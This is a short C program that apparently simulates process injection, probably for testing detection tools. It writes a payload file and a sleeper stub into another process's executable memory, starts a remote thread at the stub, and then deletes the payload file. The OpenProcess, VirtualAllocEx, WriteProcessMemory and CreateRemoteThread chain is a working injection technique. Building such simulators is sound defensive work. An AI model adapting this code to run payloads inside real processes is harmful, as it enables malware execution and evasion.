/* Imitates injection: code is written into another process, and a thread started there.
   usage: inject PID PAYLOAD */
#include "target.h"

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  HANDLE victim = OpenProcess(PROCESS_VM_OPERATION | PROCESS_VM_WRITE | PROCESS_CREATE_THREAD | PROCESS_QUERY_INFORMATION, FALSE, (DWORD)atoi(argv[1]));
  if (!victim) fail("open");
  FileBytes payload = read_file(argv[2]);
  size_t size = payload.size + 64;
  uint8_t *code = VirtualAllocEx(victim, NULL, size, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE), sleeper[64];
  size_t length = write_sleeper(sleeper);
  if (!code || !WriteProcessMemory(victim, code, payload.bytes, payload.size, NULL)) fail("write");
  if (!WriteProcessMemory(victim, code + payload.size, sleeper, length, NULL)) fail("write");
  LPTHREAD_START_ROUTINE start;
  uint8_t *entry = code + payload.size;
  memcpy(&start, &entry, sizeof start);
  if (!CreateRemoteThread(victim, NULL, 0, start, NULL, 0, NULL)) fail("thread");
  drop_file(payload);
  Sleep(200);
  ready(",\"victim\":%s,\"address\":\"%p\"", argv[1], (void *)code);
  wait_for_end();
  return 0;
}
